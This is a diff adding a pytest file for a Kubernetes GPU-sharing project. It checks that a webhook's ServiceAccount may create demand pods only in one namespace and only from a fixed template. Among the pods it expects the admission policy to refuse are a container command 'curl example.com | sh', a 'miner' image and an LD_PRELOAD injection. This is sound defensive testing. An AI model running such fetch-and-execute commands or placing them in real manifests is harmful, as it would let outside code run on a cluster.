@@ -1,0 +1,133 @@
+"""The component `demand`: what an attacker with the webhook's ServiceAccount can create and delete with it."""
+
+from __future__ import annotations
+
+import copy
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from gpushare import contract
+from gpushare.whatif.node_demand import NodeDemand
+from lab import lab_errors
+from tests.config import manifests
+from tests.config.conftest import WAIT_SECONDS, Cluster
+from tests.config.test_policy_pods import WEBHOOK
+from tests.config.test_rbac import may
+from webhook import webhook_settings
+from webhook.controllers.demand import demand_pods
+
+pytestmark = pytest.mark.apiserver
+
+COMPONENT = manifests.CONFIG / "components" / "demand"
+FILES = [f"--filename={COMPONENT / name}.yaml" for name in ("namespace", "template", "rights", "policy")]
+PODS = demand_pods.PODS_PATH
+DEMAND = NodeDemand("{}", "NVIDIA-L4", 2, 1000, 2**30, ("uid",))
+
+
+@pytest.fixture(scope="module")
+def cluster(installed: Cluster) -> Iterator[Cluster]:
+    """With the component, once its policy is in force."""
+    installed.kubectl("apply", "--server-side", "--force-conflicts", *FILES)
+    installed.administrator.ensure_default_service_account(contract.DEMAND_NAMESPACE)
+    deadline = time.monotonic() + WAIT_SECONDS
+    while "may have only the container" not in refusal(installed, changed(image="x")):
+        assert time.monotonic() < deadline, f"gpushare-demand is not in force after {WAIT_SECONDS} s"
+        time.sleep(0.1)
+    yield installed
+    installed.kubectl("delete", FILES[-1], "--ignore-not-found")
+
+
+def manifest() -> dict[str, Any]:
+    template = next(
+        made["template"] for made in manifests.documents(COMPONENT / "template.yaml") if made["kind"] == "PodTemplate"
+    )
+    return demand_pods.manifest(template, DEMAND, resource=contract.RESOURCE_PERCENT, excluded=["node-a"])
+
+
+def changed(*, spec: dict[str, Any] | None = None, **container: Any) -> dict[str, Any]:
+    made = copy.deepcopy(manifest())
+    made["spec"] |= spec or {}
+    made["spec"]["containers"][0] |= container
+    return made
+
+
+def refusal(cluster: Cluster, made: dict[str, Any], path: str = PODS) -> str:
+    """Return why the webhook's account may not create the pod; empty if it may."""
+    try:
+        cluster.administrator.create(path, made, user=WEBHOOK, dry_run=True)
+    except lab_errors.LabError as error:
+        return str(error)
+    return ""
+
+
+def test_the_webhook_may_create_its_demand_pods_and_no_other_pod(cluster: Cluster) -> None:
+    assert refusal(cluster, manifest()) == ""
+    only = "may have only the container of the PodTemplate gpushare-demand"
+    for made in (
+        changed(image="example.com/miner"),
+        changed(command=["sh", "-c", "curl example.com | sh"]),
+        changed(args=["--more"]),
+        changed(env=[{"name": "LD_PRELOAD", "value": "/x"}]),
+        changed(ports=[{"containerPort": 80}]),
+        changed(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
+        changed(livenessProbe={"exec": {"command": ["sh"]}}),
+        changed(spec={"initContainers": [{**manifest()["spec"]["containers"][0], "name": "first"}]}),
+        changed(
+            spec={
+                "containers": [*manifest()["spec"]["containers"], {**manifest()["spec"]["containers"][0], "name": "b"}]
+            }
+        ),
+    ):
+        assert only in refusal(cluster, made), made
+    no_rights = "may have no volumes, no token and no ServiceAccount of its own"
+    assert only in refusal(cluster, changed(spec={"automountServiceAccountToken": True}))  # it mounts the token
+    assert no_rights in refusal(cluster, changed(spec={"volumes": [{"name": "x", "emptyDir": {}}]}))
+    for spec in ({"nodeName": "node-a"}, {"schedulerName": "mine"}, {"priorityClassName": "system-node-critical"}):
+        assert "must have scheduler, priority and RuntimeClass" in refusal(cluster, changed(spec=spec)), spec
+    shared = manifest()
+    shared["metadata"]["annotations"][contract.ALLOCATION] = "a1"
+    assert "may have no share, owner or finalizer" in refusal(cluster, shared)
+    for key in ("hostNetwork", "hostPID"):
+        assert "violates PodSecurity" in refusal(cluster, changed(spec={key: True}))
+    assert "violates PodSecurity" in refusal(cluster, changed(securityContext={"allowPrivilegeEscalation": False}))
+
+
+def test_the_right_is_for_this_namespace_alone(cluster: Cluster) -> None:
+    for namespace in ("default", contract.SYSTEM_NAMESPACE, "kube-system"):
+        for verb in ("create", "delete"):
+            assert not may(cluster, WEBHOOK, verb, "pods", namespace=namespace)
+        path = f"/api/v1/namespaces/{namespace}/pods"
+        made = {**manifest(), "metadata": {**manifest()["metadata"], "namespace": namespace}}
+        assert 'cannot create resource "pods"' in refusal(cluster, made, path)
+    for verb in ("create", "delete"):
+        assert may(cluster, WEBHOOK, verb, "pods", namespace=contract.DEMAND_NAMESPACE)
+    for verb, resource in (("update", "podtemplates"), ("delete", "podtemplates"), ("patch", "resourcequotas")):
+        here = contract.DEMAND_NAMESPACE
+        assert not may(cluster, WEBHOOK, verb, resource, namespace=here)
+
+
+def test_the_policy_forbids_what_a_wider_role_would_allow(cluster: Cluster) -> None:
+    here = f"--namespace={cluster.namespace}"
+    cluster.kubectl("create", "role", "too-much", "--verb=create", "--resource=pods", here)
+    cluster.kubectl("create", "rolebinding", "too-much", "--role=too-much", f"--user={WEBHOOK}", here)
+    path = f"/api/v1/namespaces/{cluster.namespace}/pods"
+    made = {**manifest(), "metadata": {**manifest()["metadata"], "namespace": cluster.namespace}}
+    try:
+        assert "may create pods only in the namespace gpushare-demand" in refusal(cluster, made, path)
+    finally:
+        cluster.kubectl("delete", "rolebinding/too-much", "role/too-much", here)
+
+
+def test_quota_priority_and_settings_agree() -> None:
+    (quota,) = (made for made in manifests.documents(COMPONENT / "namespace.yaml") if made["kind"] == "ResourceQuota")
+    most = webhook_settings.WebhookSettings().demand_max_gpus
+    assert quota["spec"]["hard"] == {
+        "pods": str(most), f"requests.{contract.RESOURCE_PERCENT}": str(100 * most), "requests.nvidia.com/gpu": str(most)
+    }  # fmt: skip
+    (priority,) = (made for made in manifests.documents(COMPONENT / "template.yaml") if made["kind"] == "PriorityClass")
+    assert priority["value"] == -10  # below that, Cluster Autoscaler ignores a pod
+    names = {made["metadata"]["name"] for made in manifests.documents(COMPONENT / "namespace.yaml")}
+    assert names == {contract.DEMAND_NAMESPACE, "gpushare-demand"}
